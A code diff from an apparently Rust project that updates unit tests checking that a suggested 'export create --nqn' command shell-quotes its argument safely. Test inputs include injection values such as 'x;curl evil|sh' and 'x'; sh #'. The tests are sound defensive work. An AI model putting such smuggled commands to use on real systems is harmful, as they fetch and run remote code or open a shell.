@@ -10,8 +10,8 @@ use strake_api::v1::TextPart;
 
 /// Fields that are not typed by themselves: a dry run is not recorded, a document is too long, the kind of a hook
 /// decides how the others are typed, and no remedy names what the others choose.
-const UNTYPED: [&str; 9] =
-    ["dry_run", "json", "target", "from", "server", "interval_us", "object", "kind", "severity"];
+const UNTYPED: [&str; 8] =
+    ["json", "target", "from", "server", "interval_us", "object", "kind", "severity"];
 
 /// How many fields were looked at.
 struct Fields(usize);
@@ -193,7 +193,10 @@ fn what_a_drive_spells_is_one_word_of_the_command() {
         let request = api::CreateExportRequest { nqn: nqn.into(), ..Default::default() };
         request.line().advised
     };
-    assert_eq!(offer("nqn.x:[::1]"), "export create --nqn nqn.x:[::1]");
+    assert_eq!(offer("nqn.x:[::1]"), "export create --nqn 'nqn.x:[::1]'");
+    assert_eq!(offer("=ls"), "export create --nqn '=ls'");
+    assert_eq!(offer("~root"), "export create --nqn '~root'");
+    assert_eq!(offer("a=b~"), "export create --nqn a=b~");
     assert_eq!(offer("x;curl evil|sh"), "export create --nqn 'x;curl evil|sh'");
     assert_eq!(offer("x'; sh #"), "export create --nqn 'x'\\''; sh #'");
     assert_eq!(offer("x\nsh\r\u{1b}["), "export create --nqn 'x\u{fffd}sh\u{fffd}\u{fffd}['");
